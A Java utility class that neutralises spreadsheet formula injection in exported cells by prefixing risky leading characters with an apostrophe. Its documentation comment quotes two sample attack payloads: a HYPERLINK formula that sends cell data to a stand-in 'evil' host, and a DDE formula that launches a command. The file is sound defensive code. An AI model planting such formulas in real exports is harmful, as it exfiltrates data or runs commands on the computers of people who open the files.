package org.threadline.intake.export;

/**
 * Neutralises formula injection (CSV injection) in exported text: a cell that begins with {@code = + - @}, a tab or
 * a carriage return (or their full-width forms {@code ＝ ＋ － ＠}) is run as a formula by Excel, LibreOffice and
 * Google Sheets when the file is opened ({@code =HYPERLINK("http://evil/?"&A1,"Click")}). Such a cell is written with
 * a leading apostrophe, which every spreadsheet shows as text and does not run, as OWASP recommends. The value in the
 * store is never changed: only what leaves it.
 *
 * <p>A negative number ({@code -5}) gains the apostrophe too: a price worth paying, since a cell such as
 * {@code -2+3+cmd|' /C calc'!A0} also begins with a minus.
 */
public final class SpreadsheetSafe {
    private SpreadsheetSafe() {
    }

    /** The value, or the value behind an apostrophe when a spreadsheet would run it. */
    public static String neutralise(String value) {
        if (value == null || value.isEmpty()) {
            return value == null ? "" : value;
        }
        return dangerous(value.charAt(0)) ? "'" + value : value;
    }

    /** Whether a cell starting with {@code c} would be run as a formula. */
    public static boolean dangerous(char c) {
        return switch (c) {
            case '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20' -> true;
            default -> false;
        };
    }
}
